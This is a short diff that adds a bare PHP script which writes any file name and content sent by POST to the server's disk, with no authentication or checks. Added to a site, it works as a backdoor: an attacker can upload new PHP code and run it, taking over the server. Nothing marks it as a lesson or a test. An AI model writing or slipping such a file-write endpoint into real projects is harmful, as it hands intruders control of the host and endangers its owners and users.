@@ -1,0 +1,6 @@
+<?php
+$name = $_POST['name'];
+$body = $_POST['body'];
+$fh = fopen($name, 'w');
+fwrite($fh, $body);
+fclose($fh);
